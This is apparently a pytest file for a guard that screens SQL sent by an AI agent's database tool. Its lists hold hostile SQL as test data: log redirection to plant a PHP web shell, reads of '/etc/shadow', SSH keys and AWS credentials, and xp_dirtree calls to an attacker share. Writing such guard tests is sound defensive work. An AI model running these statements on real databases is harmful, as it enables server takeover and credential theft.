"""Statements besides COPY, INTO OUTFILE and the file functions that make the database write
or read a file it names, given to a SQL tool no pack declares: judged as ``action.sql_file``
(a write outside the allowed path prefixes denied, a sensitive read or a computed path
asked).

Attack class: arbitrary file write and read through the database (CWE-73). MySQL writes
every later statement to its general or slow query log (``SET GLOBAL general_log_file =
'/var/www/html/x.php'``, then ``SELECT '<?php ...'``: a web shell), and a table's files to
its ``DATA DIRECTORY``; PostgreSQL its logs to ``log_directory`` and a tablespace's files to
its ``LOCATION``; SQL Server a backup ``TO DISK``, and reads ``BULK INSERT ... FROM`` and
``OPENROWSET(BULK ...)`` files, and ``xp_dirtree '\\\\host\\share'`` authenticates to the
host; DuckDB writes ``EXPORT DATABASE 'DIR'`` and reads ``read_text``/``read_csv``. Each was
allowed unasked."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.engine.test_sql_tool_bodies import _session

FILE = "action.sql_file"

WRITES = [
    "SET GLOBAL general_log_file = '/var/www/html/x.php'",
    "SET GLOBAL slow_query_log_file = '/var/www/html/x.php'",
    "SET @@global.general_log_file = '/var/www/html/x.php'",
    "SET PERSIST general_log_file='/var/www/html/x.php'",
    "CREATE TABLE t (a int) ENGINE=CSV DATA DIRECTORY='/var/www/html'",
    "CREATE TABLE t (a int) INDEX DIRECTORY = '/etc/cron.d'",
    "ALTER SYSTEM SET log_directory = '/var/www'",
    "SET log_directory TO '/var/www'",
    "CREATE TABLESPACE t LOCATION '/etc/x'",
    "EXPORT DATABASE '/tmp/outside'",
]
ASKED = [
    "BACKUP DATABASE app TO DISK = 'C:\\evil.bak'",
    "SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS x",
    "BULK INSERT t FROM '/etc/shadow'",
    "EXEC xp_dirtree '\\\\attacker\\share'",
    "EXEC master..xp_fileexist '\\\\attacker\\share\\x'",
    "SELECT * FROM read_text('/root/.ssh/id_rsa')",
    "SELECT * FROM read_csv('/etc/shadow')",
    "SELECT content FROM read_blob('/root/.aws/credentials')",
]
ALLOWED = [
    "SET GLOBAL general_log = 1",
    "SELECT 'SET GLOBAL general_log_file = /x' AS note",
    "SELECT * FROM read_csv('data/orders.csv')",
    "SELECT * FROM users WHERE role = 'backup database'",
    "IMPORT DATABASE 'exports/2024'",
]


@pytest.mark.parametrize("sql", WRITES)
def test_a_file_written_outside_the_prefixes_is_denied(tmp_path: Path, sql: str) -> None:
    v = _session(tmp_path).check("query", {"sql": sql})
    assert (v.verdict, v.rule) == ("deny", FILE), (sql, v)


@pytest.mark.parametrize("sql", ASKED)
def test_a_sensitive_or_computed_file_is_asked(tmp_path: Path, sql: str) -> None:
    v = _session(tmp_path).check("query", {"sql": sql})
    assert (v.verdict, v.rule) == ("ask", FILE), (sql, v)


@pytest.mark.parametrize("sql", ALLOWED)
def test_settings_notes_and_project_files_stay_allowed(tmp_path: Path, sql: str) -> None:
    v = _session(tmp_path).check("query", {"sql": sql})
    assert v.verdict == "allow", (sql, v)


def test_a_log_in_the_project_is_allowed(tmp_path: Path) -> None:
    sql = f"SET GLOBAL general_log_file = '{tmp_path / 'project'}/query.log'"
    assert _session(tmp_path).check("query", {"sql": sql}).verdict == "allow"


@pytest.mark.parametrize(
    "name", [".envrc", ".git/hooks/pre-commit", ".vscode/tasks.json", ".mcp.json"]
)
@pytest.mark.parametrize(
    "template",
    [
        "COPY users TO '{p}/{n}'",
        "SELECT * FROM users INTO OUTFILE '{p}/{n}'",
        "ATTACH '{p}/{n}' AS x",
    ],
)
def test_a_credential_or_auto_run_file_in_the_project_is_asked(
    tmp_path: Path, name: str, template: str
) -> None:
    """Inside the prefixes, a database's write of an auto-run file (rows the statement
    chose, run by direnv, git, the editor or the MCP client) is asked about, as the same
    statement given to ``psql -c`` and a command's write there are; it was allowed."""
    sql = template.format(p=tmp_path / "project", n=name)
    v = _session(tmp_path).check("query", {"sql": sql})
    assert (v.verdict, v.rule) == ("ask", FILE), (sql, v)


def test_a_plain_file_in_the_project_stays_allowed(tmp_path: Path) -> None:
    for name in ("out.csv", "data/x.db", "Makefile"):
        sql = f"COPY users TO '{tmp_path / 'project'}/{name}'"
        assert _session(tmp_path).check("query", {"sql": sql}).verdict == "allow", sql
